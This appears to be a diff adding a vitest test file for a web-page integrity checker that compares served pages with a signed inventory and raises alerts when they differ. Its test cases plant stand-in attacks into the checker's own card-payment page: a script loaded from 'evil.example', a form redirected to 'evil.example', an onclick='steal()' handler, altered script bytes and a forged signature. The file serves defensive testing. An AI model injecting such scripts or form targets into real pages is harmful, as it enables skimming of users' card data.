@@ -1,0 +1,150 @@
+import { createHash } from "node:crypto";
+import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
+import { days, hours } from "@/server/domain/clock";
+import { toReleasedPages } from "@/server/domain/pages/inventory";
+import { createPageNetwork, type PageChange } from "@/server/testing/doors/page-network";
+import { openTestWorld, type TestWorld } from "@/server/testing/world/world";
+import type { Ctx } from "../ctx";
+import { authorisePages } from "./authorise-pages";
+import { checkPages, isRecentlyChecked } from "./check-pages";
+import { erasePageEvidence } from "./erase-page-evidence";
+import { getPagesState } from "./queries";
+
+let world: TestWorld;
+beforeAll(async () => {
+  world = await openTestWorld();
+});
+afterAll(() => world.close());
+beforeEach(async () => {
+  await world.db.prisma.staffAlert.deleteMany();
+  world.clock.advanceMs(hours(1));
+});
+
+const network = createPageNetwork();
+/** The product with its real pages, as they are received over a network that changes them. */
+const contextWith = (change: PageChange = {}): Ctx => {
+  const fetch = network.fetchFor(world.ctx, change);
+  return { ...world.ctx, pages: { ...world.ctx.pages, released: toReleasedPages(network.release), fetch } };
+};
+const checkWith = (change: PageChange = {}) => checkPages(contextWith(change));
+const differences = async (change: PageChange) =>
+  (await checkWith(change))
+    .filter(({ result }) => result !== "equal")
+    .map(({ page, differences: all }) => [page, ...all]);
+const openAlerts = async (...kinds: string[]) =>
+  (await world.db.prisma.staffAlert.findMany({ where: { kind: { in: kinds }, closedAt: null } })).map(
+    ({ kind, subject }) => `${kind} ${subject}`,
+  );
+
+test("every page that needs no card is equal to the inventory, and is stored as such", async () => {
+  const findings = await checkWith();
+  expect(findings.map(({ page, result }) => `${page} ${result}`)).toEqual([
+    "link_open equal",
+    "link_card equal",
+    "link_ended equal",
+    "link_unknown equal",
+    "link_error equal",
+    "handoff_card equal",
+    "handoff_ended equal",
+    "handoff_error equal",
+  ]);
+  expect(await openAlerts("page_changed", "page_unreachable")).toEqual([]);
+  const { pages } = await getPagesState(contextWith());
+  expect(pages.map(({ last }) => last?.result ?? null)).toEqual([...Array(8).fill("equal"), null, null, null, null]);
+});
+
+test.each<[what: string, change: PageChange, sentence: RegExp]>([
+  [
+    "an injected script",
+    { html: (text) => text.replace("</body>", '<script src="https://evil.example/x.js"></script></body>') },
+    /script "https:\/\/evil\.example\/x\.js" is not in the inventory/,
+  ],
+  [
+    "a changed integrity hash",
+    { html: (text) => text.replace(/integrity="[^"]*"/, 'integrity="sha384-other"') },
+    /has the integrity hash "sha384-other"/,
+  ],
+  [
+    "an inline handler",
+    { html: (text) => text.replace("<button", '<button onclick="steal()"') },
+    /<button> has the handler onclick: "steal\(\)"/,
+  ],
+  [
+    "a changed form target",
+    { html: (text) => text.replace('action="/handoff?lang=tr"', 'action="https://evil.example/"') },
+    /A form sends to "post https:\/\/evil\.example\/"/,
+  ],
+  [
+    "a missing header",
+    { headers: (headers) => headers.filter(([name]) => name !== "strict-transport-security") },
+    /header strict-transport-security is missing/,
+  ],
+  ["another status", { status: 201 }, /The status is 201 in place of 200/],
+])(
+  "names what was planted into the handoff's card form, and alerts of this page alone: %s",
+  async (_, change, sentence) => {
+    const [found, ...others] = await differences({ ...change, only: "handoff_card" });
+    expect(others).toEqual([]);
+    expect(found?.[0]).toBe("handoff_card");
+    expect(found?.slice(1).join("\n")).toMatch(sentence);
+    expect(await openAlerts("page_changed")).toEqual(["page_changed handoff_card"]);
+  },
+);
+
+test("a script that is sent with other bytes is a difference of every page with it", async () => {
+  const found = await differences({ script: (text) => `${text};steal()` });
+  expect(found.map(([page]) => page)).toEqual(["link_open", "link_card", "handoff_card"]);
+  expect(found.flat()).toContainEqual(expect.stringMatching(/other bytes than its integrity hash says/));
+});
+
+test("the alert closes with the next equal page", async () => {
+  await checkWith({ only: "link_open", html: (text) => text.replace("<main>", "<main><object></object>") });
+  expect(await openAlerts("page_changed")).toEqual(["page_changed link_open"]);
+  expect(world.warnings).toContainEqual(expect.objectContaining({ security: "page_check", page: "link_open" }));
+  await checkWith();
+  expect(await openAlerts("page_changed")).toEqual([]);
+});
+
+test("a page that is out of reach is an alert at the second time, and none when it answers again", async () => {
+  const gone = { only: "handoff_card", error: new Error("connect ECONNREFUSED") } as const;
+  expect((await differences(gone))[0]).toEqual([
+    "handoff_card",
+    expect.stringMatching(/could not be fetched.*ECONNREFUSED/),
+  ]);
+  expect(await openAlerts("page_unreachable", "page_changed")).toEqual([]);
+  await checkWith({ only: "handoff_card", status: 503 });
+  expect(await openAlerts("page_unreachable", "page_changed")).toEqual(["page_unreachable handoff_card"]);
+  await checkWith();
+  expect(await openAlerts("page_unreachable")).toEqual([]);
+});
+
+test("a release that nobody has authorised is an alert until somebody does; a forged signature does not count", async () => {
+  const ctx = contextWith();
+  await checkPages(ctx);
+  expect(await openAlerts("pages_unauthorised")).toEqual(["pages_unauthorised release"]);
+  const { text: content, digest } = ctx.pages.released;
+  const forged = { digest, content, authorisedBy: "x", reason: "x", authorisedAt: world.clock.now(), keyId: "audit" };
+  const signature = createHash("sha256").update(content).digest("hex");
+  await world.db.prisma.pageInventory.create({ data: { ...forged, id: "pin_forged", signature } });
+  await checkPages(ctx);
+  expect((await getPagesState(ctx)).authorisation).toBeNull();
+  await authorisePages(ctx, { authorisedBy: "operator", reason: "Release 12 was reviewed." });
+  expect(await openAlerts("pages_unauthorised")).toEqual([]);
+  await checkPages(ctx);
+  expect(await openAlerts("pages_unauthorised")).toEqual([]);
+  expect((await getPagesState(ctx)).authorisation).toMatchObject({ reason: "Release 12 was reviewed." });
+  await expect(authorisePages(ctx, { authorisedBy: "operator", reason: " " })).rejects.toThrow("reason");
+  await expect(world.db.prisma.pageInventory.deleteMany()).rejects.toThrow();
+});
+
+test("a start does not repeat a check of the same release within the hour; rows are erased after 400 days", async () => {
+  const ctx = contextWith();
+  await checkPages(ctx);
+  expect(await isRecentlyChecked(ctx)).toBe(true);
+  expect(await isRecentlyChecked(world.ctx)).toBe(false);
+  world.clock.advanceMs(hours(1));
+  expect(await isRecentlyChecked(ctx)).toBe(false);
+  world.clock.advanceMs(days(400));
+  expect(await erasePageEvidence(ctx)).toBeGreaterThan(8);
+  expect(await world.db.prisma.pageCheck.count()).toBe(0);
+});
